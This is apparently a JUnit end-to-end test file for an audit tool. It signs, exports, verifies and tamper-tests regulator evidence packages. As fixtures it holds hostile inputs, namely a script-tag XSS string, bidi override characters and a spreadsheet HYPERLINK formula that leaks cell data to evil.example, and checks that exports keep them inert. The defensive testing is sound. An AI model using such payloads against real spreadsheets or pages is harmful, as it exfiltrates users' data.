package io.trainaudit.e2e;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.trainaudit.TestSpark;
import io.trainaudit.config.ConfigLoader;
import io.trainaudit.evidence.Attestation;
import io.trainaudit.evidence.CountTable;
import io.trainaudit.evidence.CsvCells;
import io.trainaudit.evidence.Digests;
import io.trainaudit.evidence.Pseudonymiser;
import io.trainaudit.evidence.SigningKeys;
import io.trainaudit.evidence.SubtractionAttacker;
import io.trainaudit.evidence.Suppression;
import io.trainaudit.generate.OptOutGroundTruth;
import io.trainaudit.rules.OptOutMode;
import io.trainaudit.rules.RuleId;
import io.trainaudit.rules.Severity;
import io.trainaudit.tables.AuditRuns;
import io.trainaudit.tables.Findings;
import io.trainaudit.tables.Members;
import io.trainaudit.tables.Records;
import io.trainaudit.tables.TrainingSnapshots;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.spark.sql.Dataset;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.SparkSession;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Regulator evidence end to end, on generated data whose snapshot ids and affiliate names are
 * hostile: create the signing key, audit, export both tiers for EU, EEA, CH and UK, then verify
 * the packages with the CLI and with the documented openssl steps, and attack them every way the
 * issue lists: forgery, spreadsheet formulas, subtraction, key handling, chain, ground truth, links.
 */
@Tag("e2e")
class EvidenceE2eTest {
  private static final List<String> JURISDICTION = List.of("EU", "EEA", "CH", "UK");
  private static final String GROUPS = String.join(",", JURISDICTION);
  private static final List<String> CONFIDENTIAL_FILES = List.of("attestation.json", "findings.csv", "manifest.json",
      "public-key.pem", "summary.json", "summary.pdf");
  private static final List<String> PUBLIC_FILES = List.of("attestation.json", "manifest.json", "public-key.pem",
      "summary.json", "summary.pdf");
  private static final String DPO = "<script>alert('dpo')</script> dpo@example.net";
  private static final String PURPOSE = "+Training \u202Eevil\u202C models, \"quoted\"\nsecond line";
  private static final String PROVIDER = "@Example \u03A9\u03BC\u03AD\u03B3\u03B1 \u6570\u636E \u0645\u0631\u062D\u0628\u0627";
  private static final ObjectMapper JSON = new ObjectMapper();

  @TempDir static Path dir;
  private static SparkSession spark;
  private static Path config;
  private static Path signingKey;
  private static Path publicKey;
  private static String fingerprint;
  private static Path trustFile;
  private static Map<String, String> hostileIds;
  private static Path confidential;
  private static Path publicPackage;
  private static Path confidential2;
  private static Path pseudonymKey;
  private static Cli.Outcome firstExport;
  private static Cli.Outcome keysInit;
  private static String runId;

  @BeforeAll
  static void generateAuditAndExport() throws Exception {
    spark = TestSpark.session();
    GeneratedData.shared(dir);
    hostileIds = HostileData.apply(spark, dir.resolve("data"), "internal");
    config = writeConfig("audit.yaml", 10);
    signingKey = dir.resolve("keys/evidence-signing-key.pem");
    publicKey = dir.resolve("keys/evidence-signing-key.pub.pem");
    keysInit = Cli.run("keys", "init", "--config", config.toString());
    assertEquals(0, keysInit.exitCode(), keysInit.err());
    fingerprint = SigningKeys.fingerprint(SigningKeys.readPublic(publicKey));
    trustFile = Files.writeString(dir.resolve("trusted-keys.txt"), "# Example Networks Ltd, received by post\n"
        + fingerprint + "\n");
    Cli.Outcome run = Cli.run("run", "--config", config.toString(), "--full");
    assertEquals(1, run.exitCode(), run.err());

    Path series = dir.resolve("evidence/eu");
    confidential = series.resolve("c1");
    pseudonymKey = dir.resolve("keys/pseudonyms-c1.hex");
    firstExport = export(config, confidential, "--tier", "confidential", "--pseudonym-key-out", pseudonymKey.toString());
    assertEquals(0, firstExport.exitCode(), firstExport.err());
    runId = json(confidential.resolve("manifest.json")).get("run_id").asText();
    publicPackage = series.resolve("p1");
    Cli.Outcome p1 = export(config, publicPackage);
    assertEquals(0, p1.exitCode(), p1.err());
    confidential2 = series.resolve("c2");
    Cli.Outcome c2 = export(config, confidential2, "--tier", "confidential", "--pseudonym-key-out",
        dir.resolve("keys/pseudonyms-c2.hex").toString());
    assertEquals(0, c2.exitCode(), c2.err());
  }

  // Row 4: the signing key.

  @Test
  void theSigningKeyIsCreatedOnceOwnerOnlyAndNeverSilently() throws Exception {
    assertEquals("CREATED signing key " + signingKey + " (readable by its owner only)\n  public key: " + publicKey
        + "\n  fingerprint: " + fingerprint + "\n  give the public key or its fingerprint to each authority through a"
        + " channel other than the packages; they pin it with verify --trust\n", keysInit.out());
    assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(signingKey)));
    assertEquals(fingerprint, "sha256:" + openssl("pkey", "-pubin", "-in", publicKey.toString(), "-outform", "DER"));

    Cli.Outcome again = Cli.run("keys", "init", "--config", config.toString());
    assertEquals(2, again.exitCode());
    assertEquals("audit: Cannot create the signing key: " + signingKey
        + " already exists, and a signing key is never overwritten\n", again.err());

    Path noKey = writeConfig("no-key.yaml", 10, "  signing_key: keys/absent.pem");
    Cli.Outcome missing = export(noKey, dir.resolve("evidence/no-key"));
    assertEquals(3, missing.exitCode());
    assertEquals("audit: Cannot sign evidence: the signing key " + dir.resolve("keys/absent.pem")
        + " (export.signing_key) does not exist; create it once with bin/audit keys init --config " + noKey + "\n",
        missing.err());
    assertFalse(Files.exists(dir.resolve("keys/absent.pem")));

    Path mismatched = writeConfig("mismatched.yaml", 10, "  signing_key: keys2/mismatched.pem");
    assertEquals(0, Cli.run("keys", "init", "--config", mismatched.toString()).exitCode());
    Files.writeString(dir.resolve("keys2/mismatched.pub.pem"),
        SigningKeys.publicPem(KeyPairGenerator.getInstance("Ed25519").generateKeyPair().getPublic()));
    Cli.Outcome refused = export(mismatched, dir.resolve("evidence/mismatched"));
    assertEquals(3, refused.exitCode());
    assertEquals("audit: Cannot sign evidence: the public key " + dir.resolve("keys2/mismatched.pub.pem")
        + " does not match the signing key " + dir.resolve("keys2/mismatched.pem") + "\n", refused.err());
  }

  // Row 5: the pseudonym key.

  @Test
  void thePseudonymKeyIsNeverPrintedAndGoesToANewOwnerOnlyFile() throws Exception {
    String key = Files.readString(pseudonymKey).strip();
    assertEquals(64, key.length());
    assertEquals("rw-------", PosixFilePermissions.toString(Files.getPosixFilePermissions(pseudonymKey)));
    assertEquals("EXPORTED run " + runId + ", confidential tier, for EU,EEA,CH,UK into " + confidential + "\n"
        + "  findings: " + findingsOfJurisdiction().count() + "\n"
        + "  manifest SHA-256: " + Digests.sha256(confidential.resolve("manifest.json")) + "\n"
        + "  chained to: nothing (first package)\n"
        + "  signer: " + fingerprint + " (public key " + publicKey + ")\n"
        + "  pseudonym key: drawn for this export into " + pseudonymKey + " (not in the package; keep it to"
        + " re-identify a finding on request)\n", firstExport.out());
    assertFalse(firstExport.out().contains(key) || firstExport.err().contains(key));

    Pseudonymiser pseudonyms = new Pseudonymiser(HexFormat.of().parseHex(key));
    Set<String> expected = new TreeSet<>();
    findingsOfJurisdiction().select(Findings.MEMBER_ID).distinct().collectAsList()
        .forEach(r -> expected.add(pseudonyms.member(r.getString(0))));
    Set<String> written = new TreeSet<>();
    csv(confidential.resolve("findings.csv")).stream().skip(1).forEach(row -> written.add(row.get(7)));
    assertEquals(expected, written, "the key file's key gives the package's pseudonyms");

    Cli.Outcome noKey = export(config, dir.resolve("evidence/no-pseudonym-key"), "--tier", "confidential");
    assertEquals(2, noKey.exitCode());
    assertEquals("audit: Cannot export the confidential tier: no pseudonym key; set export.pseudonym_key_file in "
        + config + " to reuse a key, or give --pseudonym-key-out FILE to draw a fresh one into a new owner-only"
        + " file\n", noKey.err());
    Cli.Outcome existing = export(config, dir.resolve("evidence/existing-key"), "--tier", "confidential",
        "--pseudonym-key-out", pseudonymKey.toString());
    assertEquals(2, existing.exitCode());
    assertEquals("audit: Cannot write the pseudonym key " + pseudonymKey
        + ": the file already exists; name a new file\n", existing.err());
    assertEquals(key, Files.readString(pseudonymKey).strip());
    Cli.Outcome publicWithKey = export(config, dir.resolve("evidence/public-key-out"), "--pseudonym-key-out",
        dir.resolve("keys/unused.hex").toString());
    assertEquals(2, publicWithKey.exitCode());
    assertEquals("audit: Cannot export the public tier with --pseudonym-key-out: a public package holds no"
        + " pseudonyms\n", publicWithKey.err());
    assertFalse(Files.exists(dir.resolve("keys/unused.hex")));
  }

  // Rows 1 and 6: whom verify trusts, and the chain.

  @Test
  void aPackageIsVerifiedOnlyWithTheGivenOrPinnedKeyAndChainsWithinItsJurisdictionAndTier() throws Exception {
    Cli.Outcome verify = Cli.run("verify", confidential.toString(), "--public-key", publicKey.toString());
    assertEquals(0, verify.exitCode(), verify.out());
    assertEquals("VERIFIED " + confidential + ": run " + runId + ", EU,EEA,CH,UK, confidential tier, 4 files\n"
        + "  signer: " + fingerprint + ", given with --public-key " + publicKey + "\n"
        + "  chain: not checked (no --previous)\n", verify.out());

    Cli.Outcome chained = Cli.run("verify", confidential2.toString(), "--trust", trustFile.toString(), "--previous",
        confidential.toString());
    assertEquals(0, chained.exitCode(), chained.out());
    assertEquals("VERIFIED " + confidential2 + ": run " + runId + ", EU,EEA,CH,UK, confidential tier, 4 files\n"
        + "  signer: " + fingerprint + ", pinned in " + trustFile + "\n"
        + "  chain: checked against " + confidential + "\n", chained.out());

    Cli.Outcome publicVerify = Cli.run("verify", publicPackage.toString(), "--trust", trustFile.toString());
    assertEquals(0, publicVerify.exitCode(), publicVerify.out());
    assertEquals("VERIFIED " + publicPackage + ": run " + runId + ", EU,EEA,CH,UK, public tier, 3 files\n"
        + "  signer: " + fingerprint + ", pinned in " + trustFile + "\n"
        + "  chain: not checked (no --previous)\n", publicVerify.out());

    Cli.Outcome untrusted = Cli.run("verify", confidential.toString());
    assertEquals(11, untrusted.exitCode(), untrusted.out());
    assertEquals("INTACT, SIGNER NOT TRUSTED " + confidential + ": run " + runId
        + ", EU,EEA,CH,UK, confidential tier, 4 files\n"
        + "  signer: " + fingerprint + ", neither given with --public-key nor pinned in a trust file (--trust FILE)\n"
        + "  chain: not checked (no --previous)\n", untrusted.out());

    assertEquals(Digests.sha256(confidential.resolve("manifest.json")),
        json(confidential2.resolve("manifest.json")).get("previous_manifest_sha256").asText(),
        "the second confidential package chains to the first, past the public one exported between them");
    assertTrue(json(confidential.resolve("manifest.json")).get("previous_manifest_sha256").isNull());
    assertTrue(json(publicPackage.resolve("manifest.json")).get("previous_manifest_sha256").isNull());
    assertEquals("confidential", json(confidential.resolve("manifest.json")).get("tier").asText());
    assertEquals("public", json(publicPackage.resolve("manifest.json")).get("tier").asText());
    assertEquals(CONFIDENTIAL_FILES, files(confidential));
    assertEquals(PUBLIC_FILES, files(publicPackage));

    JsonNode statement = JSON.readTree(Base64.getDecoder().decode(
        json(confidential.resolve("attestation.json")).get("payload").asText()));
    assertEquals("https://in-toto.io/Statement/v1", statement.get("_type").asText());
    assertEquals("https://trainaudit.dev/evidence/v1", statement.get("predicateType").asText());
    assertEquals(runId, statement.at("/predicate/run_id").asText());
    assertEquals("confidential", statement.at("/predicate/tier").asText());
    assertEquals(List.of("manifest.json " + Digests.sha256(confidential.resolve("manifest.json")),
        "summary.json " + Digests.sha256(confidential.resolve("summary.json")),
        "summary.pdf " + Digests.sha256(confidential.resolve("summary.pdf")),
        "findings.csv " + Digests.sha256(confidential.resolve("findings.csv"))), subjects(confidential));
    assertEquals(List.of("manifest.json " + Digests.sha256(publicPackage.resolve("manifest.json")),
        "summary.json " + Digests.sha256(publicPackage.resolve("summary.json")),
        "summary.pdf " + Digests.sha256(publicPackage.resolve("summary.pdf"))), subjects(publicPackage));
  }

  @Test
  void aForgedPackageIsNeverVerifiedWithoutATrustedSigner() throws Exception {
    KeyPair forger = KeyPairGenerator.getInstance("Ed25519").generateKeyPair();
    Path forged = forge(copyOf(confidential, "forged"), forger, null);
    String forgedFingerprint = SigningKeys.fingerprint(forger.getPublic());

    for (String[] options : List.of(new String[0], new String[] {"--trust", trustFile.toString()})) {
      List<String> args = new ArrayList<>(List.of("verify", forged.toString()));
      args.addAll(List.of(options));
      Cli.Outcome verify = Cli.run(args.toArray(String[]::new));
      assertEquals(11, verify.exitCode(), verify.out());
      assertEquals("INTACT, SIGNER NOT TRUSTED " + forged + ": run " + runId
          + ", EU,EEA,CH,UK, confidential tier, 4 files\n"
          + "  signer: " + forgedFingerprint + ", neither given with --public-key nor pinned in a trust file"
          + " (--trust FILE)\n  chain: not checked (no --previous)\n", verify.out());
    }
    assertNotVerified(forged, "attestation.json: the signature does not verify with the public key " + publicKey,
        "--public-key", publicKey.toString());
  }

  @Test
  void theChainSkipsOtherJurisdictionsOtherTiersAndForgeries() throws Exception {
    Path series = dir.resolve("chain");
    Path first = Files.createDirectories(series).resolve("c1");
    Files.move(copyOf(confidential2, "chain-c1"), first);
    KeyPair forger = KeyPairGenerator.getInstance("Ed25519").generateKeyPair();
    forge(copyOf(first, "chain-forged"), forger, "2099-01-01T00:00:00Z");
    Files.move(dir.resolve("copies/chain-forged"), series.resolve("zz-forged"));

    Path uk = series.resolve("uk1");
    assertEquals(0, export(config, uk, "--jurisdiction-override", "UK", "--tier", "confidential",
        "--pseudonym-key-out", dir.resolve("keys/pseudonyms-uk.hex").toString()).exitCode());
    assertTrue(json(uk.resolve("manifest.json")).get("previous_manifest_sha256").isNull(),
        "a UK package does not chain to an EU one beside it");
    Path next = series.resolve("c2");
    Cli.Outcome exported = export(config, next, "--tier", "confidential", "--pseudonym-key-out",
        dir.resolve("keys/pseudonyms-chain.hex").toString());
    assertEquals(0, exported.exitCode(), exported.err());
    assertTrue(exported.out().contains("\n  chained to: " + first + "\n"), exported.out());
    assertEquals(Digests.sha256(first.resolve("manifest.json")),
        json(next.resolve("manifest.json")).get("previous_manifest_sha256").asText(),
        "the forged package beside it, though created later, is passed over");
    Path publicNext = series.resolve("p1");
    assertEquals(0, export(config, publicNext).exitCode());
    assertTrue(json(publicNext.resolve("manifest.json")).get("previous_manifest_sha256").isNull(),
        "a public package does not chain to a confidential one");

    assertNotVerified(next, "chain: the previous package " + series.resolve("zz-forged")
        + " does not verify with the same key", "--public-key", publicKey.toString(), "--previous",
        series.resolve("zz-forged").toString());
    Cli.Outcome explicit = export(config, series.resolve("c3"), "--previous", series.resolve("zz-forged").toString());
    assertEquals(2, explicit.exitCode());
    assertEquals("audit: Cannot export: the previous package " + series.resolve("zz-forged")
        + " is not a package signed by the signing key " + signingKey + "\n", explicit.err());
  }

  // Row 8: links.

  @Test
  void aLinkInsideAPackageIsRefusedEvenToAnIdenticalFile() throws Exception {
    Path linked = copyOf(confidential, "linked");
    Path outside = Files.copy(linked.resolve("findings.csv"), dir.resolve("outside-findings.csv"));
    Files.delete(linked.resolve("findings.csv"));
    Files.createSymbolicLink(linked.resolve("findings.csv"), outside);
    assertNotVerified(linked, "findings.csv: a symbolic link, not a regular file", "--public-key",
        publicKey.toString());
  }

  @Test
  void aChangedByteInAnyFileIsNamed() throws Exception {
    for (String file : CONFIDENTIAL_FILES) {
      Path copy = copyOf(confidential, "byte-" + file);
      if (file.equals("attestation.json")) {
        changeAPayloadCharacter(copy.resolve(file));
      } else {
        flipMiddleByte(copy.resolve(file));
      }
      String expected = switch (file) {
        case "attestation.json" -> "attestation.json: the signature does not verify with the public key " + publicKey;
        case "manifest.json" -> "manifest.json: SHA-256 differs from the signed attestation";
        default -> file + ": SHA-256 differs from the manifest";
      };
      assertNotVerified(copy, expected, "--public-key", publicKey.toString());
    }
  }

  @Test
  void aMissingOrExtraFileOrAWrongKeyOrABrokenChainIsNamed() throws Exception {
    Path missing = copyOf(confidential, "missing");
    Files.delete(missing.resolve("findings.csv"));
    assertNotVerified(missing, "findings.csv: missing (listed in the manifest)", "--public-key", publicKey.toString());

    Path extra = copyOf(publicPackage, "extra");
    Files.writeString(extra.resolve("notes.txt"), "added later\n");
    assertNotVerified(extra, "notes.txt: not listed in the manifest", "--public-key", publicKey.toString());

    Path otherKey = Files.writeString(dir.resolve("other.pub.pem"),
        SigningKeys.publicPem(KeyPairGenerator.getInstance("Ed25519").generateKeyPair().getPublic()));
    assertNotVerified(confidential, "attestation.json: the signature does not verify with the public key " + otherKey,
        "--public-key", otherKey.toString());

    assertNotVerified(confidential2, "chain: the previous package's manifest has SHA-256 "
        + Digests.sha256(publicPackage.resolve("manifest.json")) + ", but this package chains to "
        + Digests.sha256(confidential.resolve("manifest.json")), "--public-key", publicKey.toString(), "--previous",
        publicPackage.toString());
    Path previous = copyOf(confidential, "altered-previous");
    Files.writeString(previous.resolve("manifest.json"), Files.readString(previous.resolve("manifest.json")) + " ");
    assertNotVerified(confidential2, "chain: the previous package " + previous + " does not verify with the same key",
        "--public-key", publicKey.toString(), "--previous", previous.toString());
  }

  @Test
  void thePackagesHoldNoRawMemberOrRecordId() throws Exception {
    Set<String> ids = new HashSet<>();
    idsOf(table("members").select(Members.MEMBER_ID), ids);
    idsOf(table("records").select(Records.MEMBER_ID), ids);
    idsOf(table("records").select(Records.RECORD_ID), ids);
    idsOf(table("training_snapshots").select(TrainingSnapshots.MEMBER_ID), ids);
    idsOf(table("training_snapshots").select(TrainingSnapshots.RECORD_ID), ids);
    List<String> leaked = new ArrayList<>();
    for (Path pkg : List.of(confidential, publicPackage)) {
      for (String file : files(pkg)) {
        String text = file.endsWith(".pdf") ? pdfText(pkg.resolve(file))
            : Files.readString(pkg.resolve(file), StandardCharsets.ISO_8859_1);
        ids.stream().filter(text::contains).forEach(id -> leaked.add(id + " in " + pkg.getFileName() + "/" + file));
      }
    }
    assertEquals(List.of(), leaked);

    long expectedRows = findingsOfJurisdiction().count();
    List<List<String>> rows = csv(confidential.resolve("findings.csv"));
    assertEquals(expectedRows + 1, rows.size());
    assertEquals(List.of("rule_id", "severity", "snapshot_id", "captured_at", "purpose", "recipient", "region_group",
        "member_pseudonym", "record_pseudonym", "age_band"), rows.get(0));
    assertEquals(expectedRows, json(confidential.resolve("manifest.json")).at("/files/0/rows").asLong());
  }

  // Row 3: the public tier and complementary suppression.

  @Test
  void thePublicTierHasNoRowLevelFileAndNoHiddenCountComesBackBySubtraction() throws Exception {
    JsonNode summary = json(publicPackage.resolve("summary.json"));
    assertEquals("public", summary.get("tier").asText());
    assertFalse(Files.exists(publicPackage.resolve("findings.csv")));
    Published published = Published.of(summary);
    assertTrue(published.hidden.size() > 0, "the data set has small counts: " + summary.get("findings"));
    assertEquals(Map.of(), SubtractionAttacker.exposed(published.table, published.hidden, 10));

    Map<String, Long> truth = trueCounts();
    truth.forEach((id, n) -> {
      if (n > 0 && n < 10) {
        assertTrue(published.hidden.contains(id), id + " = " + n + " is shown");
      } else if (!published.hidden.contains(id)) {
        assertEquals(n, published.table.value(id), id);
      }
    });
    JsonNode exact = json(confidential.resolve("summary.json"));
    assertEquals("none: a confidential package is for the supervisory authority and holds the row-level findings",
        exact.get("small_count_suppression").asText());
    Published all = Published.of(exact);
    assertEquals(Set.of(), all.hidden);
    truth.forEach((id, n) -> assertEquals(n, all.table.value(id), id));
  }

  @Test
  void everyNonZeroCountIsHiddenWhenNoneReachesTheThreshold() throws Exception {
    Path strict = writeConfig("strict.yaml", 1_000_000);
    Path suppressed = dir.resolve("strict/evidence");
    assertEquals(0, export(strict, suppressed).exitCode());
    Published published = Published.of(json(suppressed.resolve("summary.json")));
    trueCounts().forEach((id, n) -> assertEquals(n > 0, published.hidden.contains(id), id + " = " + n));
    JsonNode findings = json(suppressed.resolve("summary.json")).get("findings");
    assertEquals("\"suppressed\"", findings.get("total_violations").toString(),
        "with every violation rule small, the total alone would bound them");
    assertEquals("\"suppressed\"", findings.at("/by_severity/violation").toString());
    assertEquals(Map.of(), SubtractionAttacker.exposed(published.table, published.hidden, 1_000_000));
  }

  // Row 7: late exclusions.

  @Test
  void lateExclusionsEqualTheGeneratorsGroundTruthInBothOptOutModes() throws Exception {
    String all = "EU,EEA,CH,UK,CA,HK,US,OTHER";
    Path keyFile = Files.writeString(dir.resolve("keys/stable-pseudonyms.hex"), "ab".repeat(32) + "\n");
    Map<String, List<Long>> found = new TreeMap<>();
    for (OptOutMode mode : OptOutMode.values()) {
      String name = mode.configValue();
      Path modeConfig = config;
      if (mode != OptOutMode.USE_TIME) {
        modeConfig = GeneratedData.config(dir, name + ".yaml", "output:", "  findings: " + name + "/findings",
            "  audit_runs: " + name + "/audit_runs", "  quarantine: " + name + "/quarantine",
            "  reports: " + name + "/reports", "  staging: " + name + "/staging", "policy:", "  opt_out_mode: " + name,
            "export:", "  pseudonym_key_file: " + keyFile);
        assertEquals(1, Cli.run("run", "--config", modeConfig.toString(), "--full").exitCode());
      }
      Path out = dir.resolve("late/" + name);
      Cli.Outcome exported = mode == OptOutMode.USE_TIME
          ? export(modeConfig, out, "--jurisdiction-override", all, "--tier", "confidential", "--pseudonym-key-out",
              dir.resolve("keys/pseudonyms-late.hex").toString())
          : export(modeConfig, out, "--jurisdiction-override", all, "--tier", "confidential");
      assertEquals(0, exported.exitCode(), exported.err());
      if (mode != OptOutMode.USE_TIME) {
        assertTrue(exported.out().contains("\n  pseudonym key: read from " + keyFile + " (not in the package;"),
            exported.out());
      }
      List<OptOutGroundTruth.OptOutFinding> truth = OptOutGroundTruth.of(
          GeneratedData.sharedOptions(dir.resolve("data")),
          ConfigLoader.defaults(dir).policy(), mode);
      long late = truth.stream().filter(t -> t.regionGroup() != null && t.optedOutSince() < t.capturedAt()).count();
      long atCapture = truth.stream().filter(t -> t.regionGroup() != null && t.optedOutSince() == t.capturedAt()).count();
      JsonNode objections = json(out.resolve("summary.json")).get("objections");
      found.put(name, List.of(objections.get("late_exclusions").asLong(), late, atCapture));
    }
    Map<String, List<Long>> expected = new TreeMap<>();
    found.forEach((mode, counts) -> expected.put(mode, List.of(counts.get(1), counts.get(1), counts.get(2))));
    assertEquals(expected, found, "late exclusions reported, ground truth, opt-outs at the instant of capture");
    assertTrue(found.get("use_time").get(2) > 0, "the planted opt-out at capture must be in the data: " + found);
  }

  // Row 2 and the hostile values of every file.

  @Test
  void everyFileKeepsHostileValuesInertAndExact() throws Exception {
    Set<String> expectedIds = new TreeSet<>();
    findingsOfJurisdiction().select(Findings.SNAPSHOT_ID).distinct().collectAsList()
        .forEach(r -> expectedIds.add(r.getString(0)));
    assertTrue(hostileIds.values().containsAll(expectedIds), "the findings carry the hostile ids");
    List<List<String>> rows = csv(confidential.resolve("findings.csv"));
    Set<String> snapshotIds = new TreeSet<>();
    Set<String> recipients = new TreeSet<>();
    for (List<String> row : rows) {
      for (String cell : row) {
        assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "a cell a spreadsheet runs: " + cell);
      }
      snapshotIds.add(CsvCells.restore(row.get(2)));
      recipients.add(CsvCells.restore(row.get(5)));
    }
    snapshotIds.remove("snapshot_id");
    recipients.remove("recipient");
    assertEquals(expectedIds, snapshotIds, "each snapshot id restores exactly");
    assertEquals(new TreeSet<>(Set.of("internal", HostileData.AFFILIATE)), recipients);
    assertTrue(Files.readString(confidential.resolve("findings.csv"))
        .contains("\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,"));

    for (Path pkg : List.of(confidential, publicPackage)) {
      String raw = Files.readString(pkg.resolve("summary.json"), StandardCharsets.UTF_8);
      for (String inert : List.of("<", ">", "&", "'", "\u202E", "\u202C", "\u200F")) {
        assertFalse(raw.contains(inert), pkg.getFileName() + "/summary.json holds U+"
            + Integer.toHexString(inert.codePointAt(0)));
      }
      JsonNode summary = JSON.readTree(raw);
      assertEquals(DPO, summary.at("/controller/dpo_contact").asText());
      assertEquals(PURPOSE, summary.at("/purpose_and_legal_basis/purpose").asText());
      assertEquals(PROVIDER, summary.at("/training_content/1.1_provider_identification/provider").asText());
      Set<String> listed = new TreeSet<>();
      summary.at("/training_content/2.4_user_data/training_snapshots_audited")
          .forEach(s -> listed.add(s.get("snapshot_id").asText()));
      assertEquals(new TreeSet<>(hostileIds.values()), listed);
      assertTrue(summary.at("/recipients/rows_with_findings_by_region_and_recipient/EU")
          .has(HostileData.AFFILIATE + " (affiliate)"), summary.at("/recipients").toString());

      String pdf = pdfText(pkg.resolve("summary.pdf")).replaceAll("\\s+", "");
      for (String value : List.of(DPO, PURPOSE, PROVIDER, HostileData.AFFILIATE + " (affiliate)")) {
        assertTrue(pdf.contains(visible(value).replaceAll("\\s+", "")), "PDF lacks " + visible(value));
      }
      for (String id : hostileIds.values()) {
        assertTrue(pdf.contains(visible(id).replaceAll("\\s+", "")), "PDF lacks " + visible(id));
        assertEquals(id, fromVisible(visible(id)));
      }
      assertFalse(pdf.contains("\u202E"));
      assertEquals(runId, json(pkg.resolve("manifest.json")).get("run_id").asText());
    }
  }

  @Test
  void anExportReadsTheFindingsVersionItsRunRecordedWhateverTheClocksSay() throws Exception {
    // A driver clock an hour behind the table's commit timestamps: the run's ended_at precedes its own commits.
    io.delta.tables.DeltaTable runs = io.delta.tables.DeltaTable.forPath(spark, dir.resolve("out/audit_runs").toString());
    org.apache.spark.sql.Column ofRun = org.apache.spark.sql.functions.col(AuditRuns.RUN_ID).equalTo(runId);
    java.sql.Timestamp ended = runs.toDF().where(ofRun).first().getAs(AuditRuns.ENDED_AT);
    runs.update(ofRun, Map.of(AuditRuns.ENDED_AT,
        org.apache.spark.sql.functions.lit(java.sql.Timestamp.from(ended.toInstant().minusSeconds(3600)))));
    try {
      Path skewed = dir.resolve("evidence/skewed/c1");
      Cli.Outcome export = export(config, skewed, "--tier", "confidential", "--pseudonym-key-out",
          dir.resolve("keys/pseudonyms-skewed.hex").toString());
      assertEquals(0, export.exitCode(), export.err());
      assertEquals(csv(confidential.resolve("findings.csv")).size(), csv(skewed.resolve("findings.csv")).size());
    } finally {
      runs.update(ofRun, Map.of(AuditRuns.ENDED_AT, org.apache.spark.sql.functions.lit(ended)));
    }
  }

  @Test
  void thePdfReadsBackWithEverySection() throws Exception {
    // Table cells wrap long text over lines: compare with runs of white space as one space.
    String text = pdfText(publicPackage.resolve("summary.pdf")).replaceAll("\\s+", " ");
    List<String> expected = List.of("Regulator evidence (public): run " + runId + ", EU, EEA, CH, UK",
        "1. Controller and policy", "Example Networks Ltd", "2. Purpose and legal basis",
        "3. Data categories used and excluded", "4. Recipients and affiliates by region",
        "5. How opt-outs and objections were honoured", "late_exclusions", "6. Age check", "members_of_unknown_age",
        "7. Findings by rule, region and severity, and coverage", "total_violations",
        "8. Models trained on records that broke a promise", "by_model_version_and_rule",
        "9. Public summary of training content (AI Act Art. 53(1)(d), Commission template)",
        "1.1_provider_identification", "1.2_model_identification", "writer v3", "1.3_modalities_and_size",
        "not covered by this audit", "2.4_user_data", "3.3_other_information",
        "promise", "measure", "result");
    int from = 0;
    for (String part : expected) {
      int at = text.indexOf(part, from);
      assertTrue(at >= 0, "'" + part + "' missing after position " + from + " in:\n" + text);
      from = at + part.length();
    }
  }

  @Test
  void theDocumentedStepsVerifyEachTierAndRejectTamperingLinksAndUntrustedKeys() throws Exception {
    String doc = Files.readString(Path.of("..", "docs", "evidence.md"));
    int start = doc.indexOf("```bash\n");
    int end = doc.indexOf("```\n", start + 8);
    Path script = Files.writeString(dir.resolve("verify.sh"), doc.substring(start + 8, end));

    for (Path pkg : List.of(confidential, publicPackage)) {
      ProcessResult ok = bash(script, pkg, publicKey, null, null);
      assertEquals(0, ok.exitCode(), ok.output());
      assertTrue(ok.output().contains("Signature Verified Successfully"), ok.output());
      assertTrue(ok.output().endsWith("package verified\n"), ok.output());
    }
    assertEquals(0, bash(script, confidential2, publicKey, confidential, null).exitCode());
    ProcessResult pinned = bash(script, confidential, confidential.resolve("public-key.pem"), null, trustFile);
    assertEquals(0, pinned.exitCode(), pinned.output());
    assertTrue(pinned.output().startsWith("signer " + fingerprint + "\n"), pinned.output());

    Path tampered = copyOf(confidential, "doc-tampered");
    flipMiddleByte(tampered.resolve("findings.csv"));
    ProcessResult rejected = bash(script, tampered, publicKey, null, null);
    assertEquals(1, rejected.exitCode(), rejected.output());
    assertTrue(rejected.output().contains("findings.csv: FAILED"), rejected.output());

    Path extra = copyOf(publicPackage, "doc-extra");
    Files.writeString(extra.resolve("notes.txt"), "added\n");
    assertEquals(1, bash(script, extra, publicKey, null, null).exitCode());
    Path linked = copyOf(publicPackage, "doc-linked");
    Path outside = Files.copy(linked.resolve("summary.json"), dir.resolve("outside-summary.json"));
    Files.delete(linked.resolve("summary.json"));
    Files.createSymbolicLink(linked.resolve("summary.json"), outside);
    assertEquals(1, bash(script, linked, publicKey, null, null).exitCode());
    Path forged = forge(copyOf(confidential, "doc-forged"),
        KeyPairGenerator.getInstance("Ed25519").generateKeyPair(), null);
    assertEquals(1, bash(script, forged, forged.resolve("public-key.pem"), null, trustFile).exitCode());
    assertNotEquals(0, bash(script, confidential, dir.resolve("no-such-key.pem"), null, null).exitCode());
  }

  /** The counts of summary.json and the relations a reader sees between them, rebuilt from the document alone. */
